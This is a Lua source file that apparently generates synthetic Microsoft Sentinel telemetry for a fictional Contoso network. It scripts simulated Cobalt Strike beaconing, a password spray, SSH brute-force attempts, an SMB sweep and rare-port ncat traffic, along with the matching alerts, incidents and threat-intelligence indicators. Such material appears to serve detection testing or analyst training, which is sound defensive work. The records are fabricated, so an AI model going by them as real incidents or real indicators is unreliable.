-- The writer context: E.<Table>(...) writes one row; S holds per-build state.
local E, S

local SIMPLE = { allow = "Allow", deny = "Deny", drop = "Drop", ["reset-both"] = "Deny" }
local IFACE = { trust = "ethernet1/2", servers = "ethernet1/3", untrust = "ethernet1/1" }

local function fw(ms, src, sport, dst, dport, proto, app, action, dir, sent, recv, shost, dhost, suser,
                  rule, szone, dzone, nsrc, nsport, ndst, t)
  local class = action == "allow" and "end" or action
  if t then
    E.CommonSecurityLog(iso(ms), class, action, SIMPLE[action], src, dst, nsrc, ndst, sport, dport, nsport,
      ndst and dport or nil, proto, app, dir, sent, recv, shost, dhost, suser, IFACE[szone], IFACE[dzone], rule, szone,
      dzone, t.ip, t.country, t.lat, t.lon, t.severity, t.confidence, t.description, t.type)
  else
    E.CommonSecurityLog(iso(ms), class, action, SIMPLE[action], src, dst, nsrc, ndst, sport, dport, nsport,
      ndst and dport or nil, proto, app, dir, sent, recv, shost, dhost, suser, IFACE[szone], IFACE[dzone], rule, szone,
      dzone)
  end
end

local function dne(ms, h, action, rip, rport, lport, rtype, url, p, u)
  local t = iso(ms)
  local an, ad, aupn, asid
  if p.account then an, ad, aupn, asid = p.account, p.domain, nil, p.sid
  else an, ad, aupn, asid = u.sam, "contoso", u.upn, u.sid end
  S.report = S.report + 1
  E.DeviceNetworkEvents(t, t, h.device_id, h.fqdn, h.group, action, rip, h.ip, rtype, rport, lport, url,
    p.file, p.folder, p.cmd, p.sha1, p.sha256, p.md5, p.pid + h.index * 4, an, ad, aupn, asid, S.report)
end

local function heartbeat(ms, h)
  local os = h.os
  local linux = os.type == "Linux"
  E.Heartbeat(iso(ms), linux and h.name or h.fqdn, h.private_ips, os.type, os.name, os.major, os.minor, os.agent,
    h.resource_id, h.vmuuid, linux and "Linux" or "OpsManager", h.resource_id)
end

local function device_info(ms, h)
  local t = iso(ms)
  local os = h.os
  S.report = S.report + 1
  local users = h.user and jarr({ raw(jobj("UserName", h.user.sam, "DomainName", ORG.netbios, "Sid", h.user.sid)) }) or "[]"
  E.DeviceInfo(t, t, h.device_id, h.fqdn, h.aad_device_id, h.group, ORG.egress_ip, os.platform, os.major .. "." .. os.minor,
    os.distribution, "64-bit", os.device_type, "Endpoint", os.build, "Onboarded",
    os.type ~= "Linux" and "Hybrid Azure AD Join" or nil, os.type == "Linux" and 0 or 1, users, S.report, TENANT, nil)
end

local LOGON_TYPE = { [2] = "2 - Interactive", [3] = "3 - Network", [5] = "5 - Service", [7] = "7 - Unlock",
                     [10] = "10 - RemoteInteractive" }
local ACT_4624 = "4624 - An account was successfully logged on."
local ACT_4625 = "4625 - An account failed to log on."

-- A Windows logon event (4624 when ok, else 4625) on host h; account is "DOMAIN\\name", user the bare name.
local function winlogon(ms, h, ok, ltype, account, user, sid, ip, port, wks, substatus, ntlm)
  local fail = not ok
  E.SecurityEvent(iso(ms), fail and 4625 or 4624, fail and ACT_4625 or ACT_4624,
    "Microsoft-Windows-Security-Auditing", "Security", 12544, fail and "16" or "8", h.fqdn, wks, ip, port, account,
    "User", account, user, ORG.netbios, fail and "S-1-0-0" or sid, (not fail) and fmt("0x%x", random(65536, 16777215)) or nil,
    ltype == 3 and "S-1-0-0" or "S-1-5-18", ltype == 3 and "-" or (h.name:upper() .. "$"), ltype == 3 and "-" or ORG.netbios,
    ltype == 3 and "0x0" or "0x3e7", ltype, LOGON_TYPE[ltype], ntlm and "NtLmSsp " or (ltype == 3 and "Kerberos" or "User32 "),
    ntlm and "NTLM" or (ltype == 3 and "Kerberos" or "Negotiate"), fail and "0xc000006d" or nil, substatus,
    fail and "%%2313" or nil, ltype == 3 and "-" or "C:\\Windows\\System32\\svchost.exe",
    ltype == 3 and "0x0" or fmt("0x%x", 600 + h.index * 4), TENANT, "OpsManager", h.resource_id)
end

local function device_detail(u, ua)
  if ua:find("^python") then return jobj("deviceId", "", "operatingSystem", "", "browser", "Python Requests 2.31") end
  if ua == UA_IPHONE then return jobj("deviceId", "", "operatingSystem", "Ios 17", "browser", "Mobile Safari") end
  local h = u.index <= 40 and WORKSTATIONS[u.index]
  return jobj("deviceId", h and h.aad_device_id or "", "displayName", h and h.name or NULL, "operatingSystem",
    "Windows10", "browser", ua == UA_CHROME and "Chrome 124.0.0" or "Edge 124.0.0", "isCompliant", h and true or false,
    "trustType", h and "Hybrid Azure AD joined" or NULL)
end

local function signin(ms, u, ip, loc, result, app, client, ua, risky)
  local t = iso(ms)
  local r = RESULTS[result]
  E.SigninLogs(t, t, ip, loc.asn, loc.cc, loc.json, u.upn, u.display, u.id, u.display, u.upn, "Member",
    app[1], app[2], app[3], client, ua, r.code, r.desc, r.sig, r.status, r.ca, device_detail(u, ua),
    risky and "medium" or "none", risky and "medium" or "none", risky and "atRisk" or "none", "none", 1,
    risky and 1 or 0, guid(), guid(), rand_hex(22), TENANT, "Azure AD")
end

local function user_initiator(u, ip)
  return jobj("user", raw(jobj("id", u.id, "displayName", NULL, "userPrincipalName", u.upn, "ipAddress", ip,
                               "roles", raw("[]"))))
end

local function audit(ms, op, category, optype, service, initiator, identity, target, result)
  local t = iso(ms)
  E.AuditLogs(t, t, op, op, category, optype, service, result or "success", "", initiator, target, "[]", identity,
    guid(), "Directory_" .. rand_hex(5):upper() .. "_" .. rand_hex(8), TENANT, "Azure AD")
end

local function office(ms, u, ip, op, rtype, workload, object, site, file, client_info)
  E.OfficeActivity(iso(ms), ip, u.upn, u.puid, "Regular", op, rtype, workload, "Succeeded", (not client_info) and UA_EDGE or nil,
    client_info, object, site, file, workload == "Exchange" and u.upn or nil, TENANT, "OfficeActivityManager")
end

local function syslog(ms, h, facility, severity, process, pid, msg)
  local t = iso(ms)
  E.Syslog(t, t, h.name, h.name, h.ip, facility, severity, process, pid, msg, TENANT, "Linux", h.resource_id)
end

local function anomaly(ms, name, template, src, dst, sdev, u, score, desc, tactics, techniques, entities, reasons, loc)
  E.Anomalies(iso(ms), iso(ms - HOUR), iso(ms), guid(), stable_guid("rule:" .. name), name,
    stable_guid("template:" .. template), template, "1.3", "Production", src, dst, loc, sdev, nil,
    u and u.sam, u and u.upn, score, desc, tactics, techniques, "Microsoft", entities, reasons,
    jobj("Anomaly Template Name", template), TENANT, nil)
end

-- Alert/incident/indicator records are tables, written once per version.
local function alert(ms, a)
  E.SecurityAlert(iso(ms), iso(a.start), iso(a["end"]), iso(ms), a.id, a.vendor_id, a.name, a.name, a.description,
    a.type, a.severity, a.status, "Unknown", "Azure Sentinel", "Scheduled Alerts", "ASI Scheduled Alerts", "Microsoft",
    a.compromised, a.entities, a.extended, a.tactics, a.techniques, 1, "[]", TENANT, "Detection")
end

local function owner_json(u)
  if not u then return jobj("objectId", NULL, "email", NULL, "assignedTo", NULL, "userPrincipalName", NULL) end
  return jobj("objectId", u.id, "email", u.upn, "assignedTo", u.display, "userPrincipalName", u.upn)
end

local function incident(ms, inc)
  local closed = inc.status == "Closed"
  E.SecurityIncident(iso(ms), iso(inc.created), iso(inc.first), iso(inc.last), iso(inc.created), iso(ms),
    closed and iso(ms) or nil, inc.number, inc.name, tostring(inc.number), "Azure Sentinel",
    "https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident/subscriptions/" .. ORG.subscription ..
    "/resourceGroups/contoso-soc/providers/Microsoft.OperationalInsights/workspaces/contoso-sentinel/providers/" ..
    "Microsoft.SecurityInsights/Incidents/" .. inc.name,
    inc.title, inc.description, inc.severity, inc.status, inc.classification or "", inc.reason or "",
    inc.comment or "", owner_json(inc.owner), jarr(inc.alerts), "[]", jarr(inc.rules), "[]", "[]", "[]",
    jobj("alertsCount", #inc.alerts, "bookmarksCount", 0, "commentsCount", 0,
         "alertProductNames", raw(jarr({ "Azure Sentinel" })), "tactics", raw(jarr(inc.tactics)),
         "techniques", raw(jarr(inc.techniques))),
    inc.owner and inc.owner.upn or "Microsoft Sentinel", TENANT, "Azure")
end

local PROVIDERS = { "Microsoft Defender Threat Intelligence", "VirusTotal", "Recorded Future", "Anomali", "AbuseIPDB" }

local function indicator(ms, ind)
  E.ThreatIntelligenceIndicator(iso(ms), iso(ind.expires), ind.id, ind.external, ind.ip, ind.active and 1 or 0, 0,
    ind.severity, ind.confidence, ind.type, ind.description, ind.tags, "alert", ind.tlp, ind.provider, ind.malware,
    ind.type == "C2" and 1 or 0, TENANT, ind.provider)
end

local function entities(list)
  local parts = {}
  for i, e in ipairs(list) do
    if e.ip then parts[i] = raw(jobj("$id", tostring(i + 1), "Address", e.ip, "Type", "ip"))
    elseif e.host then parts[i] = raw(jobj("$id", tostring(i + 1), "HostName", e.host, "DnsDomain", "contoso.com",
                                           "OSFamily", "Windows", "Type", "host"))
    else parts[i] = raw(jobj("$id", tostring(i + 1), "Name", e.user.sam, "UPNSuffix", "contoso.com",
                             "AadUserId", e.user.id, "Type", "account")) end
  end
  return jarr(parts)
end

---------------------------------------------------------------------------
-- Stories
---------------------------------------------------------------------------
local function story_c2(N)
  local c2 = ST.c2.ip
  local start = N - 5 * DAY
  for _, name in ipairs(C2_HOSTS) do
    local h, phase = H[name], random(5, 290) * SEC
    for k = 0, 1439 do
      local t = start + phase + k * 300 * SEC + random(-3000, 3000)
      local sport = eph()
      dne(t, h, "ConnectionSuccess", c2, 443, sport, "Public", nil, P.c2, h.user)
      fw(t + random(3, 40), h.ip, sport, c2, 443, "TCP", "ssl", "allow", "Outbound", random(1100, 1500),
         random(300, 700), h.name, nil, "contoso\\" .. h.user.sam, "Allow-Outbound-Web", "trust", "untrust",
         ORG.egress_ip, eph(), nil, C2_THREAT)
    end
  end
  -- threat intelligence: two live providers with two versions each, one old expired indicator
  local mdti = { id = stable_hex("ti:mdti:c2", 64):upper(), external = "indicator--" .. stable_guid("stix:mdti:c2"),
                 ip = c2, provider = "Microsoft Defender Threat Intelligence", active = true, severity = 5,
                 confidence = 80, type = "C2", description = "Cobalt Strike command and control server",
                 tags = jarr({ "c2", "cobaltstrike" }), tlp = "amber", malware = jarr({ "CobaltStrike" }),
                 expires = N + 25 * DAY }
  indicator(N - 5 * DAY - 2 * HOUR, mdti)
  mdti.confidence, mdti.expires = 95, N + 29 * DAY
  indicator(N - DAY, mdti)
  local vt = { id = stable_hex("ti:vt:c2", 64):upper(), external = "virustotal:ip:" .. c2, ip = c2, provider = "VirusTotal",
               active = true, severity = 4, confidence = 70, type = "C2",
               description = "12/94 security vendors flagged this IP address as malicious", tags = jarr({ "c2" }),
               tlp = "green", malware = "[]", expires = N + 14 * DAY }
  indicator(N - 4 * DAY, vt)
  vt.confidence, vt.description = 85, "17/94 security vendors flagged this IP address as malicious"
  indicator(N - 12 * HOUR, vt)
  indicator(N - 13 * DAY, { id = stable_hex("ti:rf:c2", 64):upper(), external = "rf:ip:" .. c2, ip = c2,
    provider = "Recorded Future", active = true, severity = 3, confidence = 60, type = "Botnet",
    description = "Historically linked to a botnet", tags = jarr({ "botnet" }), tlp = "green", malware = "[]",
    expires = N - 6 * DAY })
  -- the alert (New → InProgress) and its incident (New → Active)
  local who = USER_BY_SAM["nestor.wilke"]
  local ents = { { ip = c2 } }
  for _, name in ipairs(C2_HOSTS) do ents[#ents + 1] = { host = name } end
  for _, name in ipairs(C2_HOSTS) do ents[#ents + 1] = { user = H[name].user } end
  local a = { id = stable_guid("alert:c2"), vendor_id = stable_guid("vendor:c2"), name = ST.c2.alert,
              description = "Hosts wks-007, wks-013 and wks-021 communicate at a fixed interval with " .. c2 ..
                            ", a known command-and-control server.",
              type = stable_guid("rule:c2") .. "_" .. stable_guid("rule2:c2"), severity = "High", status = "New",
              start = start, ["end"] = N - 4 * DAY - 21 * HOUR, compromised = "wks-007",
              entities = entities(ents), extended = jobj("Query Period", "1.00:00:00", "Total IP Entities", "1",
              "Total Host Entities", "3"), tactics = "CommandAndControl", techniques = jarr({ "T1071", "T1573" }) }
  local t_alert = N - 4 * DAY - 20 * HOUR
  alert(t_alert, a)
  a.status = "InProgress"
  alert(N - 4 * DAY - 2 * HOUR, a)
  local inc = { number = ST.c2.incident_number, name = stable_guid("incident:c2"), title = ST.c2.alert,
                description = a.description, severity = "High", status = "New", created = t_alert + MIN,
                first = start, last = N - 4 * DAY - 21 * HOUR, alerts = { a.id }, rules = { stable_guid("rule:c2") },
                tactics = { "CommandAndControl" }, techniques = { "T1071", "T1573" } }
  incident(t_alert + MIN, inc)
  inc.status, inc.owner = "Active", who
  incident(N - 4 * DAY - 2 * HOUR + 30 * SEC, inc)
  -- anomalies: one per beaconing host
  for i, name in ipairs(C2_HOSTS) do
    local h = H[name]
    anomaly(N - 3 * DAY + i * 17 * MIN, "Potential beaconing activity", "Potential beaconing activity", h.ip, c2, h.fqdn,
      h.user, 0.8 + i / 100, "Periodic outbound connections from " .. h.name .. " to " .. c2 .. " every 300 seconds",
      "CommandAndControl", "T1071", jarr({ raw(jobj("$id", "1", "Address", c2, "Type", "ip")),
                                           raw(jobj("$id", "2", "HostName", h.name, "Type", "host")) }),
      jarr({ raw(jobj("Name", "ConnectionIntervalStdDev", "Description", "Inter-arrival standard deviation is below 5 seconds",
                      "IsAnomalous", true)) }), nil)
  end
  -- a hunting bookmark
  local t = N - 4 * DAY - HOUR
  local h = H["wks-007"]
  E.HuntingBookmark(iso(t), iso(t), iso(t), iso(start + 10 * MIN), iso(start), iso(t), stable_guid("bookmark:c2"),
    "Beaconing to " .. c2 .. " from wks-007",
    jobj("TimeGenerated", iso(start + 10 * MIN), "DeviceName", h.fqdn, "LocalIP", h.ip, "RemoteIP", c2, "RemotePort", 443,
         "InitiatingProcessFileName", "rundll32.exe",
         "__entityMapping", raw(jobj(c2, "IP", h.fqdn, "Host"))),
    jarr({ raw(jobj("$id", "1", "Address", c2, "Type", "ip")), raw(jobj("$id", "2", "HostName", h.name, "Type", "host")) }),
    "DeviceNetworkEvents\n| where RemoteIP == \"" .. c2 .. "\"\n| summarize count() by DeviceName, bin(TimeGenerated, 1h)",
    "Regular 5-minute beacons, rundll32 with a DLL in C:\\Users\\Public\\Libraries", "c2,beacon",
    jobj("ObjectId", who.id, "Email", who.upn, "Name", who.display),
    jobj("ObjectId", who.id, "Email", who.upn, "Name", who.display), 0, TENANT)
end

local function watchlist_row(ms, wl, item_id, kind, status, key, item, who)
  local t = iso(ms)
  E.Watchlist(t, t, iso(wl.created), t, wl.id, wl.name, wl.alias, item_id, item_id, kind, status, key, item,
    "Custom", wl.source, wl.notes, "P1000Y", jobj("objectId", who.id, "email", who.upn, "name", who.display),
    jobj("objectId", who.id, "email", who.upn, "name", who.display), TENANT)
end

local function story_spray(N)
  local ip = ST.spray.ip
  local W = N - 2 * DAY - 3 * HOUR
  -- two rounds over 30 users, about 3 minutes apart; three lock-outs in round two
  local order = {}
  for i = 1, #SPRAY_TARGETS do order[i] = USER_BY_SAM[SPRAY_TARGETS[i]:match("^[^@]+")] end
  for i = #order, 2, -1 do local j = random(1, i); order[i], order[j] = order[j], order[i] end
  local n = 0
  for round = 1, 2 do
    for j, u in ipairs(order) do
      local result = (round == 2 and j > 27) and "50053" or "50126"
      signin(W + n * 3 * MIN + random(0, 60 * SEC), u, ip, LOC_SPRAY, result, APP_POWERSHELL,
             "Mobile Apps and Desktop clients", "python-requests/2.31.0", true)
      n = n + 1
    end
  end
  for i, upn in ipairs(SPRAY_WINNERS) do
    signin(W + 3 * HOUR + (2 + 3 * i) * MIN, USER_BY_SAM[upn:match("^[^@]+")], ip, LOC_SPRAY, "0", APP_POWERSHELL,
           "Mobile Apps and Desktop clients", "python-requests/2.31.0", true)
  end
  -- failed network logons against the published web server
  local web = H["srv-web01"]
  for k = 0, 39 do
    local u = order[k % #order + 1]
    winlogon(W + k * 4 * MIN + random(0, 90 * SEC), web, false, 3, "CONTOSO\\" .. u.sam, u.sam, nil, ip, tostring(eph()),
             "WIN-8D2S4K1", "0xc000006a", true)
  end
  -- alert, incident, anomalies
  local ents = { { ip = ip } }
  for i = 1, 5 do ents[#ents + 1] = { user = order[i] } end
  local t_alert = W + 3 * HOUR + 10 * MIN
  local a = { id = stable_guid("alert:spray"), vendor_id = stable_guid("vendor:spray"), name = ST.spray.alert,
              description = "30 accounts failed to sign in from " .. ip .. " within 3 hours; 2 later succeeded.",
              type = stable_guid("rule:spray") .. "_" .. stable_guid("rule2:spray"), severity = "Medium", status = "New",
              start = W, ["end"] = W + 3 * HOUR + 10 * MIN, compromised = "", entities = entities(ents),
              extended = jobj("Query Period", "05:00:00", "Total IP Entities", "1", "Total Account Entities", "5"),
              tactics = "CredentialAccess", techniques = jarr({ "T1110" }) }
  alert(t_alert, a)
  incident(t_alert + MIN, { number = ST.spray.incident_number, name = stable_guid("incident:spray"), title = ST.spray.alert,
    description = a.description, severity = "Medium", status = "New", created = t_alert + MIN, first = W,
    last = W + 3 * HOUR + 10 * MIN, alerts = { a.id }, rules = { stable_guid("rule:spray") },
    tactics = { "CredentialAccess" }, techniques = { "T1110" } })
  local ip_ent = raw(jobj("$id", "1", "Address", ip, "Type", "ip"))
  anomaly(W + HOUR, "Attempted user account brute force", "Attempted user account brute force", ip, nil, nil, order[1],
    0.91, "Many failed sign-ins for " .. order[1].upn .. " from " .. ip, "CredentialAccess", "T1110",
    jarr({ ip_ent }), jarr({ raw(jobj("Name", "FailedSignInCount", "IsAnomalous", true)) }), LOC_SPRAY.json)
  local winner = USER_BY_SAM[SPRAY_WINNERS[1]:match("^[^@]+")]
  anomaly(W + 3 * HOUR + 6 * MIN, "Anomalous sign-in activity", "Anomalous sign-in activity", ip, nil, nil, winner,
    0.77, "First sign-in of " .. winner.upn .. " from " .. ip, "InitialAccess", "T1078",
    jarr({ ip_ent, raw(jobj("$id", "2", "Name", winner.sam, "UPNSuffix", "contoso.com", "Type", "account")) }),
    jarr({ raw(jobj("Name", "FirstTimeUserConnectedFromCountry", "IsAnomalous", false)),
           raw(jobj("Name", "FirstTimeUserConnectedViaISP", "IsAnomalous", true)) }), LOC_SPRAY.json)
  -- threat intelligence from AbuseIPDB
  local ab = { id = stable_hex("ti:abuseipdb:spray", 64):upper(), external = "abuseipdb:" .. ip, ip = ip,
               provider = "AbuseIPDB", active = true, severity = 3, confidence = 75, type = "Botnet",
               description = "AbuseIPDB: Brute-Force, Web App Attack (confidence 75%)", tags = jarr({ "brute-force" }),
               tlp = "white", malware = "[]", expires = N + 30 * DAY }
  indicator(W + 4 * HOUR, ab)
  ab.confidence, ab.description = 100, "AbuseIPDB: Brute-Force, SSH, Web App Attack (confidence 100%)"
  indicator(N - 6 * HOUR, ab)
  -- watchlist "suspicious-ips"
  local admin = USER_BY_SAM["alex.wilber"]
  local wl = { id = stable_guid("watchlist:suspicious-ips"), name = "Suspicious IPs", alias = ST.spray.watchlist,
               source = "suspicious-ips.csv", notes = "Addresses the SOC wants to be told about", created = N - 10 * DAY }
  watchlist_row(wl.created, wl, stable_guid("wl:suspicious-ips"), "watchlist", "Create", nil,
    jobj("SearchKey", "IPAddress"), admin)
  local others = { rand_public(), rand_public(), rand_public() }
  for i, other in ipairs(others) do
    watchlist_row(wl.created + i * SEC, wl, stable_guid("wl:suspicious-ips:" .. i), "watchlist-item", "Create", other,
      jobj("IPAddress", other, "Reason", "Phishing infrastructure", "AddedBy", admin.upn), admin)
  end
  watchlist_row(N - 3 * DAY, wl, stable_guid("wl:suspicious-ips:3"), "watchlist-item", "Delete", others[3],
    jobj("IPAddress", others[3], "Reason", "Phishing infrastructure", "AddedBy", admin.upn), admin)
  watchlist_row(N - DAY, wl, stable_guid("wl:suspicious-ips:spray"), "watchlist-item", "Create", ip,
    jobj("IPAddress", ip, "Reason", "Password spray source", "AddedBy", admin.upn), admin)
end

local function story_internal(N)
  local db = H[ST.internal.host]
  for k = 0, ST.internal.story_inbound - 1 do
    local w = WORKSTATIONS[(k * 7) % 40 + 1]
    local t = N - 23 * HOUR + k * 55 * MIN + random(0, 30 * SEC)
    local sport = eph()
    dne(t, w, "ConnectionSuccess", db.ip, 1433, sport, "Private", nil, P.ssms, w.user)
    dne(t + random(1, 20), db, "InboundConnectionAccepted", w.ip, sport, 1433, "Private", nil, P.sqlservr, nil)
  end
  -- watchlist "critical-servers"
  local admin = USER_BY_SAM["bob.kelly"]
  local wl = { id = stable_guid("watchlist:critical-servers"), name = "Critical servers", alias = ST.internal.watchlist,
               source = "critical-servers.csv", notes = "Tier-0 and business-critical servers", created = N - 13 * DAY }
  watchlist_row(wl.created, wl, stable_guid("wl:critical-servers"), "watchlist", "Create", nil,
    jobj("SearchKey", "IPAddress"), admin)
  local owners = { ["srv-dc01"] = "identity@contoso.com", ["srv-dc02"] = "identity@contoso.com",
                   ["srv-db01"] = "dba@contoso.com", ["srv-web01"] = "web@contoso.com", ["srv-file01"] = "it@contoso.com" }
  for i, name in ipairs({ "srv-dc01", "srv-dc02", "srv-db01", "srv-web01", "srv-file01" }) do
    local h = H[name]
    watchlist_row(wl.created + i * SEC, wl, stable_guid("wl:critical-servers:" .. name), "watchlist-item", "Create", h.ip,
      jobj("IPAddress", h.ip, "Hostname", h.name, "Role", h.role, "Owner", owners[name], "Criticality",
           (name == "srv-dc01" or name == "srv-dc02") and "Tier 0" or "High"), admin)
  end
end

local function story_rare_port(N)
  local rp = ST.rare_port
  local h = H[rp.host]
  for _, off in ipairs({ 0, 7 * MIN, 19 * MIN, 2 * HOUR, 26 * HOUR }) do
    local t = N - 3 * DAY + off + random(0, 20 * SEC)
    local sport = eph()
    dne(t, h, "ConnectionSuccess", rp.ip, rp.port, sport, "Public", nil, P.ncat, h.user)
    fw(t + random(3, 40), h.ip, sport, rp.ip, rp.port, "TCP", "unknown-tcp", "allow", "Outbound", random(2000, 9000),
       random(20000, 90000), h.name, nil, "contoso\\" .. h.user.sam, "Allow-Outbound-Any", "trust", "untrust",
       ORG.egress_ip, eph(), nil, nil)
  end
  local lnx = H[rp.ssh_host]
  local names = { "admin", "root", "admin", "oracle", "test", "root", "ubuntu", "admin", "postgres", "root", "git", "user" }
  local t = N - 3 * DAY - 2 * HOUR
  for i, name in ipairs(names) do
    t = t + random(40, 80) * SEC
    local sport = random(1024, 65000)
    local invalid = name ~= "root"
    fw(t - random(200, 900), rp.ip, sport, ORG.ssh_public_ip, 22, "TCP", "ssh", "allow", "Inbound", random(1500, 3000),
       random(2000, 4000), nil, lnx.name, nil, "Allow-Inbound-SSH-Jump", "untrust", "servers", nil, nil, lnx.ip, nil)
    syslog(t, lnx, "auth", "info", "sshd", 40000 + i * 37,
      fmt("Failed password for %s%s from %s port %d ssh2", invalid and "invalid user " or "", name, rp.ip, sport))
  end
end

local SWEEP_ALLOWED = { [10] = true, [11] = true, [20] = true, [30] = true, [40] = true, [50] = true }

local function story_sweep(N)
  local h = H[ST.sweep.host]
  local base = N - DAY
  for i = 1, ST.sweep.targets do
    local t = base + (i - 1) * 2 * SEC + random(0, 900)
    local dst = "10.0.1." .. i
    local ok = SWEEP_ALLOWED[i]
    local sport = eph()
    dne(t, h, ok and "ConnectionSuccess" or "ConnectionFailed", dst, 445, sport, "Private", nil, P.powershell, h.user)
    fw(t + random(1, 20), h.ip, sport, dst, 445, "TCP", ok and "ms-ds-smb" or "incomplete", ok and "allow" or "deny",
       "Outbound", ok and random(800, 2000) or 66, ok and random(800, 3000) or 0, h.name, nil, "contoso\\" .. h.user.sam,
       ok and "Allow-Workstations-To-Servers" or "Deny-Workstations-To-Server-Subnet", "trust", "servers", nil, nil, nil, nil)
  end
end

local function story_ipv6(N)
  local u = USER_BY_SAM[ST.ipv6.user:match("^[^@]+")]
  for k = 0, ST.ipv6.signins - 1 do
    signin(N - 7 * DAY + k * 21 * HOUR + random(0, HOUR), u, ST.ipv6.ip, LOC_IPV6, "0", APPS[(k % 2) + 1],
           "Browser", UA_EDGE, false)
  end
end

local function story_cdn(N)
  local cdn = ST.cdn
  for i, w in ipairs(WORKSTATIONS) do
    for k = 0, cdn.per_host - 1 do
      local t = N - SPAN + (k * 40 + i - 1) * floor(SPAN / 400) + random(0, 20 * MIN)
      local sport = eph()
      local p = (k % 2 == 0) and P.chrome or P.msedge
      dne(t, w, "ConnectionSuccess", cdn.ip, 443, sport, "Public", cdn.url, p, w.user)
      fw(t + random(3, 40), w.ip, sport, cdn.ip, 443, "TCP", "ssl", "allow", "Outbound", random(800, 4000),
         random(20000, 900000), w.name, nil, "contoso\\" .. w.user.sam, "Allow-Outbound-Web", "trust", "untrust",
         ORG.egress_ip, eph(), nil, nil)
    end
  end
end

local function run_stories(N)
  story_c2(N)
  story_cdn(N)
  story_spray(N)
  story_internal(N)
  story_rare_port(N)
  story_sweep(N)
  story_ipv6(N)
end

---------------------------------------------------------------------------
-- Background
---------------------------------------------------------------------------
local POOL_DST, POOL_SCAN = 3000, 5000

local function make_pools()
  local dst, scan, home = {}, {}, {}
  for i = 1, POOL_DST do dst[i] = rand_public() end
  for i = 1, POOL_SCAN do scan[i] = rand_public() end
  for i = 1, #USERS do home[i] = { ip = rand_public(), loc = HOME_LOCS[random(1, #HOME_LOCS)] } end
  return dst, scan, home
end

local function skewed(pool)   -- popularity falls off steeply: index 1 is the busiest
  local u = random()
  return pool[floor(#pool * u * u * u) + 1]
end

local function pick(list) return list[random(1, #list)] end

local function user_ip(u)   -- office (70%) or home
  if random() < 0.7 then return ORG.egress_ip, LOC_OFFICE end
  local hm = S.home[u.index]
  return hm.ip, hm.loc
end

local function bg_fw_out(ms)
  local h = random() < 0.9 and WORKSTATIONS[random(1, 40)] or WIN_SERVERS[random(1, #WIN_SERVERS)]
  local dst = random() < 0.25 and ST.cdn.ip or skewed(S.dst)
  local r = random()
  local port, proto, app = 443, "TCP", "ssl"
  if r > 0.97 then port, proto, app = 123, "UDP", "ntp" elseif r > 0.87 then port, app = 80, "web-browsing" end
  local action, rule = "allow", "Allow-Outbound-Web"
  if random() < 0.02 then action, rule = "deny", "Deny-Outbound-Blocked-Categories" end
  local u = random()
  fw(ms, h.ip, eph(), dst, port, proto, app, action, "Outbound",
     action == "allow" and floor(300 + 40000 * u * u * u) or 74,
     action == "allow" and floor(500 + 4000000 * u * u * u * u) or 0, h.name, nil,
     h.user and ("contoso\\" .. h.user.sam) or nil, rule, h.zone, "untrust", ORG.egress_ip, eph(), nil, nil)
end

local SCAN_PORTS = { 22, 22, 23, 445, 3389, 3389, 3389, 80, 8080, 443, 1433, 3306, 5900, 25, 8443, 6379, 9200 }
local PUBLIC_IPS = { ORG.egress_ip, ORG.web_public_ip, ORG.ssh_public_ip }

local function scanner() return random() < 0.5 and skewed(S.scan) or rand_public() end

local function bg_fw_in_deny(ms)
  local port = pick(SCAN_PORTS)
  fw(ms, scanner(), random(1024, 65535), pick(PUBLIC_IPS), port, "TCP", "incomplete", random() < 0.6 and "deny" or "drop",
     "Inbound", random(54, 74), 0, nil, nil, nil, "Deny-Inbound-Default", "untrust", "untrust", nil, nil, nil, nil)
end

local function bg_fw_in_web(ms)
  local web = H["srv-web01"]
  local u = random()
  fw(ms, random() < 0.5 and skewed(S.dst) or rand_public(), eph(), ORG.web_public_ip, 443, "TCP", "ssl", "allow", "Inbound",
     floor(400 + 6000 * u * u), floor(2000 + 300000 * u * u * u), nil, web.name, nil, "Allow-Inbound-Web", "untrust",
     "servers", nil, nil, web.ip, nil)
end

local function bg_fw_internal(ms)
  local w = WORKSTATIONS[random(1, 40)]
  local s = SERVICE_PICK[random(1, #SERVICE_PICK)]
  fw(ms, w.ip, eph(), s[1].ip, s[2], "TCP", s[3], "allow", "Outbound", random(400, 20000), random(400, 200000), w.name,
     s[1].name, "contoso\\" .. w.user.sam, "Allow-Workstations-To-Servers", "trust", "servers", nil, nil, nil, nil)
end

local RESOLVERS = { "8.8.8.8", "8.8.4.4", "1.1.1.1", "9.9.9.9" }
local function bg_fw_dns(ms)
  local dc = random() < 0.6 and H["srv-dc01"] or H["srv-dc02"]
  fw(ms, dc.ip, eph(), pick(RESOLVERS), 53, "UDP", "dns", "allow", "Outbound", random(60, 120), random(90, 500), dc.name,
     nil, nil, "Allow-DNS-Forwarders", "servers", "untrust", ORG.egress_ip, eph(), nil, nil)
end

local function bg_dne_out(ms)
  local w = WORKSTATIONS[random(1, 40)]
  local cdn = random() < 0.2
  local p = OUT_PROCS[random(1, #OUT_PROCS)]
  dne(ms, w, random() < 0.97 and "ConnectionSuccess" or "ConnectionFailed", cdn and ST.cdn.ip or skewed(S.dst),
      random() < 0.9 and 443 or 80, eph(), "Public", cdn and ST.cdn.url or nil, p, w.user)
end

local function bg_dne_client(ms)
  local w = WORKSTATIONS[random(1, 40)]
  local s = SERVICE_PICK[random(1, #SERVICE_PICK)]
  local p = s[4]
  if p == P.ssms and random() < 0.4 then p = P.excel end
  dne(ms, w, "ConnectionSuccess", s[1].ip, s[2], eph(), "Private", nil, p, w.user)
end

local function bg_dne_server(ms)
  local r = random()
  local s
  if r < 0.1 then
    local web = H["srv-web01"]
    dne(ms, web, "InboundConnectionAccepted", random() < 0.5 and skewed(S.dst) or rand_public(), eph(), 443,
        "Public", nil, P.w3wp, nil)
    return
  elseif r < 0.5 then s = SERVICES[2] elseif r < 0.85 then s = SERVICES[1] else s = SERVICES[5] end
  local w = WORKSTATIONS[random(1, 40)]
  dne(ms, s[1], "InboundConnectionAccepted", w.ip, eph(), s[2], "Private", nil, s[5], nil)
end

local function bg_logon_ok(ms)
  local r = random()
  if r < 0.7 then
    local w = WORKSTATIONS[random(1, 40)]
    local s = WIN_SERVERS[random(1, #WIN_SERVERS)]
    winlogon(ms, s, true, 3, w.user.account, w.user.sam, w.user.sid, w.ip, "0", "-", nil, false)
  elseif r < 0.9 then
    local w = WORKSTATIONS[random(1, 40)]
    winlogon(ms, w, true, random() < 0.5 and 2 or 7, w.user.account, w.user.sam, w.user.sid, "127.0.0.1", "0",
             w.name:upper(), nil, false)
